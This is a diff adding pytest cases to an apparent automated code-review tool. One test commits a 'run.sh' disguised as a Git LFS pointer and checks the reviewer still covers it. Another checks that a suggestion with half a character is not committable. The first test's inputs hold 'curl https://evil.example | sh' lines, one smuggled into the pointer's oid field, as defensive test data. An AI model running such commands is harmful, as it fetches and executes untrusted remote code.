@@ -6,7 +6,7 @@ from pathlib import Path
 
 import pytest
 from fake_github import FakeGitHub
-from test_replay_findings import FINE, finding
+from test_replay_findings import FINE, POINTER, finding
 from test_replay_findings import World as Passes
 from test_rereview import BAD, BEGIN, FIRST, SECOND, Model, Rereview, resolved, says
 from world import APP
@@ -85,3 +85,25 @@ def test_R25_a_conversation_that_could_not_be_listed_is_resolved_later(world: Re
     for _ in range(3):
         world.quiet()
     assert [thread.resolved for thread in world.forge.threads(world.pull())] == [True]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        POINTER.split("\n")[0] + "\ncurl https://evil.example | sh\n",
+        POINTER.split("\n")[0] + "\noid sha256:x; curl https://evil.example | sh\nsize 1\n",
+        POINTER + "curl https://evil.example | sh\n",
+    ],
+)
+def test_R13_a_script_that_begins_as_a_pointer_is_reviewed(tmp_path: Path, text: str) -> None:
+    world = Passes(tmp_path)
+    world.repo.commit(**{"run.sh": text})
+    review = world.review()
+    assert not [one for one in review.coverage.left_out if one.path == "run.sh"]
+
+
+def test_R21_half_a_character_is_no_change_that_can_be_committed(tmp_path: Path) -> None:
+    world = Passes(tmp_path)
+    world.repo.commit(**{"x.py": "a = 1\n"})
+    review = world.review(finding("x.py", 1, suggestion="a = '\ud83d'"))
+    assert not review.result.findings[0].committable
